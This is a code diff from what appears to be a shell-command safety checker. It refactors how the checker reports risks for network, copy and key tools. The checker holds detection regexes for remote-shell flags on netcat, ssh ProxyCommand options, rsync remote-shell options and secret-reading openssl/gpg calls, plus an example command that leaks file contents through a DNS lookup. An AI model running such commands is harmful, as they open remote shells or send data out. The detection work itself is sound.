@@ -37,7 +37,7 @@ export const network = definePrograms(
     effects: [NETWORK, WRITES_UNKNOWN],
     judge: ({ words, context, span }) => {
       if (words.some((word) => /^(?:POST|PUT|DELETE|PATCH|--form|-f)$|@/.test(textOf(word) ?? ''))) {
-        context.report.raise('dangerous', 'network-sends', 'sends data to another machine', span);
+        context.report.raise('dangerous', 'network-sends', { text: 'sends data to another machine', span });
       }
     },
     examples: {
@@ -57,13 +57,16 @@ export const network = definePrograms(
       context.report.effect(reached);
       // `nc -z` only checks whether a port is open.
       const asks = isNc && words.some((word) => /^-[a-y]*z[a-z]*$/.test(textOf(word) ?? ''));
-      context.report.raise(asks ? 'warning' : 'dangerous', 'network', 'connects to another machine', span);
+      context.report.raise(asks ? 'warning' : 'dangerous', 'network', {
+        text: 'connects to another machine',
+        span,
+      });
       const shell = words.some((word) =>
         /^-[a-z]*[ec]$|^--(?:sh-)?exec|(?:^|[:,])(?:exec|system):/i.test(beginningOf(word)),
       );
       const text = words.map((word) => beginningOf(word)).join(' ');
       if (shell || /\/bin\/(?:ba|z|da)?sh/.test(text))
-        context.report.raise('blocked', 'remote-shell', 'gives another machine a shell', span);
+        context.report.raise('blocked', 'remote-shell', { text: 'gives another machine a shell', span });
       if (!asks || reached === NETWORK) context.report.effect(WRITES_UNKNOWN);
     },
     examples: {
@@ -84,14 +87,17 @@ export const network = definePrograms(
       const asks = options.unknown.length === 0 && options.given.every(({ name }) => /^-[VQG]$/.test(name));
       if (options.operands.length === 0 && asks) return;
       context.report.effect(NETWORK);
-      context.report.raise('dangerous', 'network', 'connects to another machine', span);
+      context.report.raise('dangerous', 'network', { text: 'connects to another machine', span });
       const command = options.given.find(
         ({ name, value }) =>
           name === '-o' &&
           /proxycommand|localcommand|match|knownhostscommand/i.test(beginningOf(value ?? literal('', span))),
       );
       if (command !== undefined) {
-        context.report.raise('dangerous', 'starts-program', 'starts a program on this machine', span);
+        context.report.raise('dangerous', 'starts-program', {
+          text: 'starts a program on this machine',
+          span,
+        });
         context.report.effect(WRITES_UNKNOWN);
       }
       const [host] = options.operands;
@@ -130,7 +136,10 @@ export const network = definePrograms(
     judge: ({ words, context, span }) => {
       // A name that is looked up carries data as well as a request does.
       if (words.some((word) => word.kind === 'dynamic'))
-        context.report.raise('dangerous', 'network-sends', "looks up a name that can't be known", span);
+        context.report.raise('dangerous', 'network-sends', {
+          text: "looks up a name that can't be known",
+          span,
+        });
     },
     examples: { warning: ['ping -c 1 x.example', 'dig x.example'], dangerous: ['dig "$(cat a).x.example"'] },
   },
@@ -173,25 +182,28 @@ function judgeCopy({ program, words, options, context, span }: Invocation): void
   const flags = words.map((word) => beginningOf(word));
   const remote = options.operands.some((word) => /^[^/]*:/.test(beginningOf(word)));
   if (flags.some((flag) => /^-[a-zA-Z]*e$|^-e|^--rsh|^--rsync-path|^-S$|^-oProxy/.test(flag))) {
-    report.raise('dangerous', 'starts-program', 'names a program to run', span);
+    report.raise('dangerous', 'starts-program', { text: 'names a program to run', span });
     report.effect(WRITES_UNKNOWN);
   }
   if (program === 'rclone') {
     report.effect(NETWORK);
     report.effect(WRITES_UNKNOWN);
     const readsOnly = /^(?:ls|lsd|lsl|lsf|size|about|version|check)$/.test(flags[0] ?? '');
-    return report.raise(readsOnly ? 'warning' : 'dangerous', 'network', 'talks to another machine', span);
+    return report.raise(readsOnly ? 'warning' : 'dangerous', 'network', {
+      text: 'talks to another machine',
+      span,
+    });
   }
   const readsOnly = flags.some((flag) => /^-[a-mo-zA-Z]*n[a-zA-Z]*$|^--dry-run$/.test(flag));
   if (remote || program === 'scp') {
     report.effect(NETWORK);
-    report.raise('dangerous', 'network', 'copies to or from another machine', span);
+    report.raise('dangerous', 'network', { text: 'copies to or from another machine', span });
   } else if (!readsOnly || flags.some((flag) => flag.startsWith('-') && !DRY_COPY.test(flag)))
-    report.raise('warning', 'copies', readsOnly ? 'says what it would copy' : 'copies files', span);
+    report.raise('warning', 'copies', { text: readsOnly ? 'says what it would copy' : 'copies files', span });
   if (!readsOnly && flags.some((flag) => flag.startsWith('--del') || flag === '--remove-source-files'))
-    report.raise('dangerous', 'delete-recursive', 'deletes what is not in the source', span);
+    report.raise('dangerous', 'delete-recursive', { text: 'deletes what is not in the source', span });
   for (const word of options.operands.slice(0, -1))
-    if (!/^[^/]*:/.test(beginningOf(word))) touchRead(context, word, 'tree');
+    if (!/^[^/]*:/.test(beginningOf(word))) touchRead(context, word, { scope: 'tree' });
   for (const word of words) {
     const list = /^--files-from=/.exec(beginningOf(word))?.[0];
     if (list !== undefined) touchNames(context, after(word, list.length));
@@ -201,8 +213,8 @@ function judgeCopy({ program, words, options, context, span }: Invocation): void
   if (/^[^/]*:/.test(beginningOf(target))) return;
   if (flags.some((flag) => /^--(?:log-file|backup-dir|partial-dir|temp-dir|write-batch)/.test(flag)))
     report.effect(WRITES_UNKNOWN);
-  if (flags.some((flag) => flag.startsWith('--del'))) touchDelete(context, target, 'tree');
-  touchWrite(context, target, 'tree');
+  if (flags.some((flag) => flag.startsWith('--del'))) touchDelete(context, target, { scope: 'tree' });
+  touchWrite(context, target, { scope: 'tree' });
 }
 
 const PUBLIC: ReadonlyMap<string, OptionTable> = new Map([
@@ -223,7 +235,7 @@ function readsPublic(words: readonly Word[], context: EvaluationContext): boolea
   const [verb, ...rest] = words;
   const table = PUBLIC.get(textOf(verb) ?? '');
   if (table === undefined) return false;
-  const options = readOptions(rest, table, 'long');
+  const options = readOptions(rest, 'long', table);
   if (options.unknown.length > 0 || options.maybeOptions.length > 0) return false;
   if (textOf(verb) === 'dgst') for (const word of options.operands) touchRead(context, word);
   const certificate = valueOf(options, '--in');
@@ -238,7 +250,7 @@ function judgeKeys({ program, words, context, span }: Invocation): void {
   const tells = program === 'openssl' && /^(?:version|help|list|ciphers)$/.test(textOf(verb) ?? '');
   if (program === 'openssl' && readsPublic(words, context)) return;
   if (tells || (words.length === 1 && textOf(verb) === '--version')) return;
-  context.report.raise('warning', 'cryptography', 'uses keys or secrets', span);
+  context.report.raise('warning', 'cryptography', { text: 'uses keys or secrets', span });
   context.report.effect(WRITES_UNKNOWN);
   for (const word of words) if (isSecret(beginningOf(word))) touchRead(context, word);
   const text = words.map((word) => beginningOf(word)).join(' ');
@@ -251,5 +263,5 @@ function judgeKeys({ program, words, context, span }: Invocation): void {
     /s_client|s_server|export-secret|genrsa|genpkey|\brsa\b|pkey|pkcs12|dumpasn|delete|gen-key|--decrypt|send-keys/.test(
       text,
     );
-  if (secret) report.raise('dangerous', 'reads-secret', `${program} uses keys or secrets`, span);
+  if (secret) report.raise('dangerous', 'reads-secret', { text: `${program} uses keys or secrets`, span });
 }
